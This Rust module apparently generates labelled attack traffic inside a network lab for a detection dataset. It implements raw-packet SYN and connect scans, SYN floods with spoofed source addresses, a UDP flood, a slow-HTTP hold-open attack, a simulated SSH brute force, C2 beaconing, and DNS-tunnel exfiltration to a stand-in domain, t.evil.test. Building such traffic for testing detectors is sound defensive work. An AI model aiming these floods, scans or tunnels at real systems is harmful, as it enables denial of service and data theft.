//! Malicious traffic, every bit of it bounded and inside the lab's own namespaces.

use std::io::Write as _;
use std::net::{Ipv4Addr, SocketAddr, TcpStream};
use std::time::{Duration, Instant};

use socket2::Socket;

use super::benign::SSH_BANNER;
use super::frame::{self, Ends, SYN};
use super::report::{FlowSent, Label};
use super::services::dns;
use super::space::{SERVER, SPOOFED_PREFIX, Space, attacker};
use super::talk::{Worker, connect, datagram_socket, exchange, read_away};
use super::{Part, Scenario};
use crate::sys;

/// Ports a scan tries.
const SCAN_PORTS: u16 = 1_000;
/// Most packets of one flood.
const FLOOD_PACKETS_MAX: u64 = 20_000;
/// Packets of a burst; pauses between bursts set the rate.
const BURST_PACKETS: u64 = 20;
/// Connections slow HTTP holds open.
const SLOW_CONNECTIONS: usize = 120;
/// Most logins one brute force tries.
const LOGINS_MAX: u64 = 400;

/// All malicious scenarios.
pub(super) const SCENARIOS: &[Scenario] = &[
    Scenario {
        name: "syn-scan",
        label: Label::Malicious,
        kind: "port_scan",
        parts: &[Part {
            space: Space::Attacker,
            run: syn_scan,
        }],
    },
    Scenario {
        name: "connect-scan",
        label: Label::Malicious,
        kind: "port_scan",
        parts: &[Part {
            space: Space::Attacker,
            run: connect_scan,
        }],
    },
    Scenario {
        name: "syn-flood",
        label: Label::Malicious,
        kind: "syn_flood",
        parts: &[Part {
            space: Space::Attacker,
            run: syn_flood,
        }],
    },
    Scenario {
        name: "syn-flood-many",
        label: Label::Malicious,
        kind: "syn_flood",
        parts: &[Part {
            space: Space::Attacker,
            run: syn_flood_many,
        }],
    },
    Scenario {
        name: "udp-flood",
        label: Label::Malicious,
        kind: "udp_flood",
        parts: &[Part {
            space: Space::Attacker,
            run: udp_flood,
        }],
    },
    Scenario {
        name: "brute-force",
        label: Label::Malicious,
        kind: "brute_force",
        parts: &[
            Part {
                space: Space::Attacker,
                run: brute_force,
            },
            Part {
                space: Space::Attacker,
                run: brute_force,
            },
            Part {
                space: Space::Attacker,
                run: brute_force,
            },
            Part {
                space: Space::Attacker,
                run: brute_force,
            },
        ],
    },
    Scenario {
        name: "slow-http",
        label: Label::Malicious,
        kind: "slow_http_dos",
        parts: &[Part {
            space: Space::Attacker,
            run: slow_http,
        }],
    },
    Scenario {
        name: "beacon",
        label: Label::Malicious,
        kind: "c2_botnet",
        parts: &[Part {
            space: Space::Server,
            run: beacon,
        }],
    },
    Scenario {
        name: "dns-tunnel",
        label: Label::Malicious,
        kind: "dns_tunnel",
        parts: &[Part {
            space: Space::Server,
            run: dns_tunnel,
        }],
    },
];

/// Address the tunnel's name server has.
pub(super) const TUNNEL_HOST: u8 = 9;

fn ends(src: Ipv4Addr, src_port: u16, dst_port: u16) -> Ends {
    Ends {
        src_mac: Space::Attacker.mac(),
        dst_mac: Space::Server.mac(),
        src,
        dst: SERVER,
        src_port,
        dst_port,
    }
}

/// Sends a hand-made frame and enters it as a flow of one packet, or into the last one's flow.
fn send(worker: &mut Worker, socket: &Socket, ends: &Ends, frame: &[u8], protocol: &'static str) {
    if socket.send(frame).is_err() {
        worker.report.failures += 1;
        return;
    }
    worker.report.crafted_packets += 1;
    worker.report.flow(FlowSent {
        src: (ends.src, ends.src_port).into(),
        dst: (ends.dst, ends.dst_port).into(),
        protocol,
        // The kernel's answer (RST, ICMP error or none) is not known here.
        exact: None,
    });
}

fn shuffled_ports(worker: &mut Worker) -> Vec<u16> {
    let mut ports: Vec<u16> = (1..=SCAN_PORTS).collect();
    for at in (1..ports.len()).rev() {
        ports.swap(at, worker.random.between(0, at as u64) as usize);
    }
    ports
}

/// One SYN a port from one source port, as scanners do; the kernel answers a SYN-ACK with RST.
fn syn_scan(worker: &mut Worker) -> anyhow::Result<()> {
    let socket = sys::packet_socket("eth0")?;
    let src = attacker(1);
    worker.report.peers.push(src.into());
    let src_port = worker.random.between(35_000, 60_000) as u16;
    for (at, port) in shuffled_ports(worker).into_iter().enumerate() {
        if !worker.goes_on() {
            break;
        }
        let ends = ends(src, src_port, port);
        let frame = frame::tcp(&ends, SYN, worker.random.next() as u32);
        send(worker, &socket, &ends, &frame, "tcp");
        if at % 10 == 9 {
            worker.pause(Duration::from_millis(40));
        }
    }
    Ok(())
}

/// Whole connections, closed as soon as they are open.
fn connect_scan(worker: &mut Worker) -> anyhow::Result<()> {
    let src = attacker(2);
    worker.report.peers.push(src.into());
    for port in shuffled_ports(worker) {
        if !worker.goes_on() {
            break;
        }
        let dst = SocketAddr::from((SERVER, port));
        match connect(src.into(), dst, Duration::from_millis(500)) {
            Ok((_, local)) => worker.report.tcp(local, dst),
            // Most ports are closed; the attempt is a flow nevertheless, of a port not known.
            Err(_) => worker.report.tcp((src, 0).into(), dst),
        }
        worker.pause(Duration::from_millis(8));
    }
    Ok(())
}

fn syn_flood(worker: &mut Worker) -> anyhow::Result<()> {
    let src = attacker(3);
    worker.report.peers.push(src.into());
    flood(worker, Duration::from_millis(12), |worker| {
        let port = worker.random.between(1_024, 65_535) as u16;
        let ends = ends(src, port, 80);
        let frame = frame::tcp(&ends, SYN, worker.random.next() as u32);
        (ends, frame, "tcp")
    })
}

/// Every SYN from another, invented address.
fn syn_flood_many(worker: &mut Worker) -> anyhow::Result<()> {
    flood(worker, Duration::from_millis(12), |worker| {
        let [a, b] = SPOOFED_PREFIX;
        let random = worker.random.next();
        let src = Ipv4Addr::new(a, b, random as u8, (random >> 8) as u8);
        let port = worker.random.between(1_024, 65_535) as u16;
        let ends = ends(src, port, 443);
        let frame = frame::tcp(&ends, SYN, worker.random.next() as u32);
        (ends, frame, "tcp")
    })
}

fn udp_flood(worker: &mut Worker) -> anyhow::Result<()> {
    let src = attacker(4);
    worker.report.peers.push(src.into());
    let payload = vec![0x55; 900];
    flood(worker, Duration::from_millis(16), move |worker| {
        let src_port = worker.random.between(1_024, 65_535) as u16;
        let dst_port = worker.random.between(1_024, 65_535) as u16;
        let ends = ends(src, src_port, dst_port);
        let frame = frame::udp(&ends, &payload);
        (ends, frame, "udp")
    })
}

fn flood(
    worker: &mut Worker,
    pause: Duration,
    mut next: impl FnMut(&mut Worker) -> (Ends, Vec<u8>, &'static str),
) -> anyhow::Result<()> {
    let socket = sys::packet_socket("eth0")?;
    let mut sent = 0;
    while worker.goes_on() && sent < FLOOD_PACKETS_MAX {
        for _ in 0..BURST_PACKETS {
            let (ends, frame, protocol) = next(worker);
            send(worker, &socket, &ends, &frame, protocol);
            sent += 1;
        }
        worker.pause(pause);
    }
    Ok(())
}

/// Logins one after the other, each failing after a few exchanges of equal sizes.
fn brute_force(worker: &mut Worker) -> anyhow::Result<()> {
    let src = attacker(5);
    worker.report.peers.push(src.into());
    for _ in 0..LOGINS_MAX {
        if !worker.goes_on() {
            break;
        }
        let Some(mut stream) = worker.connect(src.into(), (SERVER, 22).into()) else {
            continue;
        };
        let mut ended = read_away(&mut stream, SSH_BANNER.len())
            .and_then(|()| exchange(&mut stream, 1_300, 1_100))
            .and_then(|()| exchange(&mut stream, 48, 500))
            .and_then(|()| exchange(&mut stream, 64, 64));
        for _ in 0..3 {
            ended = ended.and_then(|()| exchange(&mut stream, 148, 52));
            worker.pause(Duration::from_millis(60));
        }
        if ended.is_err() {
            worker.report.failures += 1;
        }
    }
    Ok(())
}

/// Many connections whose request never ends: a header line now and then.
fn slow_http(worker: &mut Worker) -> anyhow::Result<()> {
    let src = attacker(6);
    worker.report.peers.push(src.into());
    let mut held: Vec<TcpStream> = Vec::new();
    while worker.goes_on() {
        while held.len() < SLOW_CONNECTIONS && worker.goes_on() {
            let Some(mut stream) = worker.connect(src.into(), (SERVER, 80).into()) else {
                break;
            };
            if stream.write_all(b"GET /?q HTTP/1.1\r\nHost: a\r\n").is_ok() {
                held.push(stream);
            }
            worker.pause(Duration::from_millis(10));
        }
        worker.think(2_500);
        held.retain_mut(|stream| stream.write_all(b"X-a: 4711\r\n").is_ok());
    }
    Ok(())
}

/// An infected server calls home, at nearly the same interval.
fn beacon(worker: &mut Worker) -> anyhow::Result<()> {
    let home = attacker(7);
    worker.report.peers.push(home.into());
    while worker.goes_on() {
        let next = Instant::now()
            + Duration::from_secs(3)
            + Duration::from_millis(worker.random.between(0, 300));
        if let Some(mut stream) = worker.connect(SERVER.into(), (home, 443).into())
            && exchange(&mut stream, 210, 150).is_err()
        {
            worker.report.failures += 1;
        }
        worker.pause(next.saturating_duration_since(Instant::now()));
    }
    Ok(())
}

/// An infected server carries data out in names and takes orders in texts.
fn dns_tunnel(worker: &mut Worker) -> anyhow::Result<()> {
    let name_server = attacker(TUNNEL_HOST);
    worker.report.peers.push(name_server.into());
    let socket = datagram_socket(SERVER.into())?;
    while worker.goes_on() {
        let mut name = String::new();
        for _ in 0..worker.random.between(2, 3) {
            for _ in 0..6 {
                name += &format!("{:010x}", worker.random.next() & 0xff_ffff_ffff);
            }
            name.push('.');
        }
        name += "t.evil.test";
        let id = worker.random.next() as u16;
        worker.ask(
            &socket,
            (name_server, 53).into(),
            &dns::question(id, &name, dns::TXT),
        );
        worker.think(40);
    }
    Ok(())
}

/// Sends UDP packets to the server's discard port, each a flow of its own, at a rate; gives how
/// many went out. For load, not for verdicts.
pub(super) fn many_flows(packets: u64, per_second: u64) -> anyhow::Result<u64> {
    /// Bursts a second.
    const BURSTS: u64 = 50;
    let socket = sys::packet_socket("eth0")?;
    let start = Instant::now();
    let mut sent = 0;
    for burst in 1.. {
        for _ in 0..per_second.div_ceil(BURSTS) {
            if sent >= packets || sys::stop_requested() {
                return Ok(sent);
            }
            let host = 10 + (sent / 60_000) as u8 % 10;
            let src_port = 2_000 + (sent % 60_000) as u16;
            let frame = frame::udp(&ends(attacker(host), src_port, 9), b"load");
            socket.send(&frame)?;
            sent += 1;
        }
        let due = start + Duration::from_millis(burst * 1_000 / BURSTS);
        std::thread::sleep(due.saturating_duration_since(Instant::now()));
    }
    Ok(sent)
}
